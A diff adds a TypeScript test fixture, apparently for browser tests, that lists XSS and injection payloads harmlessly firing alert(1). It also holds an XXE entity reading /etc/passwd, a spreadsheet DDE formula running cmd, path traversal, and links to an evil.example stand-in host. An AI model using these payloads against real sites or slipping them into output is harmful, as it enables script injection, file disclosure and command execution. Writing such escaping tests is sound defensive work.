@@ -1,0 +1,80 @@
+/** Words that would act if any page took them for code: our own, by the place they try to break out of. */
+
+/** What each payload calls when it runs; the browser test listens. */
+const RUN = 'alert(1)';
+
+export const PAYLOADS: readonly string[] = [
+  // Elements
+  `<script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN} />#x">`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
+  `<iframe src=javascript:${RUN}>`,
+  `<object data=javascript:${RUN}>`,
+  `<embed src=javascript:${RUN}>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+  `<details open ontoggle=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<body onload=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<form action=javascript:${RUN}><button>un</button></form>`,
+  `<base href=//evil.example/>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<link rel=stylesheet href=//evil.example/a.css>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  // Out of what holds them
+  `"><script>${RUN}</script>`,
+  `'><script>${RUN}</script>`,
+  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
+  `' onmouseover='${RUN}' x='`,
+  `\` onmouseover=${RUN} `,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `</text></svg><img src=x onerror=${RUN}>`,
+  `</td></tr></table><script>${RUN}</script>`,
+  `--><script>${RUN}</script><!--`,
+  `<!--<script>${RUN}</script>`,
+  `]]><script>${RUN}</script>`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
+  // Characters written otherwise
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`,
+  `&quot;&gt;&lt;img src=x onerror=${RUN}&gt;`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `＜script＞${RUN}＜/script＞`,
+  // Templates and scripts
+  `{${RUN}}`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `#{${RUN}}`,
+  `<%= ${RUN} %>`,
+  `';${RUN};//`,
+  `";${RUN};//`,
+  // Markdown
+  `[un](javascript:${RUN})`,
+  `![un](javascript:${RUN})`,
+  `<javascript:${RUN}>`,
+  `[un]: javascript:${RUN}`,
+  // Style
+  `}*{background:url(//evil.example/a)}`,
+  `</style><style>@import '//evil.example/a.css';</style>`,
+  // Names that objects have already
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  // Other formats
+  '=HYPERLINK("//evil.example","un")',
+  "+1+cmd|'/C calc'!A0",
+  '@SUM(1)',
+  'un\\nEND:VCALENDAR\\nBEGIN:VCALENDAR',
+  '../../../etc/passwd',
+  '//evil.example/',
+];
